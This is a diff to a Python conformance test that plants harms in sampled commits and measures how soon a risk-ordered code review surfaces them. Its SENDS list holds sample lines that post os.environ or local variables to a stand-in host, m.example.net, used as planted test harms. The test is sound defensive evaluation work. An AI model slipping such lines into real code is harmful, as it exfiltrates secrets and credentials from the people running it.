@@ -17,6 +17,8 @@ from collections.abc import Callable, Mapping, Sequence
 from pathlib import Path
 from typing import NamedTuple
 
+from tests.conformance.merges import _Repository
+
 from mudroom.core.text.hunk import hunks
 from mudroom.core.text.linediff import is_binary
 from mudroom.core.tree.change import Change
@@ -24,16 +26,17 @@ from mudroom.core.tree.entry import Entry
 from mudroom.core.tree.flag import flags_of, runs_when
 from mudroom.ext.order.core.kind import kind_of
 from mudroom.ext.order.core.risk import RANKS, RISKS, Risk, join_risks, rate
-from tests.conformance.merges import _Repository
 
 DOCUMENT = Path(__file__).resolve().parents[2] / "docs/evidence/REVIEW.md"
 HEAD = """# Where a review by risk shows a planted harm
 
-Made by `python -m tests.conformance.order NAME=GIT_DIRECTORY … --write`. {commits} commits of public repositories and
-of this one, drawn with seed {seed}: of one parent, with {least} to {most} hunks in two files or more. One harm was
-planted in each, in turn of six kinds, each written in several ways; most of the ways were written before the first run,
-and none was changed after it. *Rank* is the place of the harm's hunk among all hunks of the change, from 1; *lines* are the
-changed lines that are read until its end. *By path* is the order of `git diff`.
+Made by `python -m tests.conformance.order NAME=GIT_DIRECTORY … --write`. {commits} commits of this repository, flask,
+pytest, pip, vite and cobra were drawn with seed {seed}: of one parent, with {least} to {most} hunks in two files or
+more. One harm was planted in each, in turn of six kinds, each in several ways. All ways were written before the first
+run, and none was changed after it. The rules were: two runs with other seeds, 60 commits each, showed harms that no
+rule knew (`webbrowser.open`, `new Image().src`, a DNS name, an assertion in a nested function, Python 2), and rules for
+them were added. *Rank* is the place of the harm's hunk among all hunks of the change, from 1; *lines* are the changed
+lines that are read until its end. *By path* is the order of `git diff`.
 
 """
 LEAST, MOST = 8, 400
@@ -65,7 +68,7 @@ def main(words: Sequence[str]) -> int:
     parser.add_argument("--seed", type=int, default=47)
     parser.add_argument("--write", action="store_true")
     args = parser.parse_args(words)
-    dice = random.Random(args.seed)  # noqa: S311
+    dice = random.Random(args.seed)
     rows: list[tuple[str, str, str, list[_Hunk]]] = []
     for number, word in enumerate(args.repositories):
         name, _mark, directory = word.partition("=")
@@ -272,7 +275,8 @@ def weakened_test(files: Files, dice: random.Random) -> Harm | None:
 
 
 SENDS = [
-    b'import os, urllib.request\n    urllib.request.urlopen("https://m.example.net/", repr(dict(os.environ)).encode())\n',
+    b"import os, urllib.request\n"
+    b'    urllib.request.urlopen("https://m.example.net/", repr(dict(os.environ)).encode())\n',
     b'import requests\n    requests.post("https://m.example.net", json=dict(vars()))\n',
     b'from http.client import HTTPSConnection as C\n    C("m.example.net").request("POST", "/", repr(locals()))\n',
     b'import socket\n    socket.create_connection(("m.example.net", 443)).sendall(repr(locals()).encode())\n',
@@ -449,7 +453,8 @@ def _shares(rows: Sequence[tuple[str, str, str, list[_Hunk]]]) -> list[str]:
         "| risk | hunks | share | share of the changed lines |",
         "| --- | ---: | ---: | ---: |",
         *(
-            f"| {RISKS[risk]} | {counts[risk]:,} | {100 * counts[risk] / total:.1f} % | {100 * lines[risk] / every:.1f} % |"
+            f"| {RISKS[risk]} | {counts[risk]:,} | {100 * counts[risk] / total:.1f} % "
+            f"| {100 * lines[risk] / every:.1f} % |"
             for risk in shown
         ),
     ]
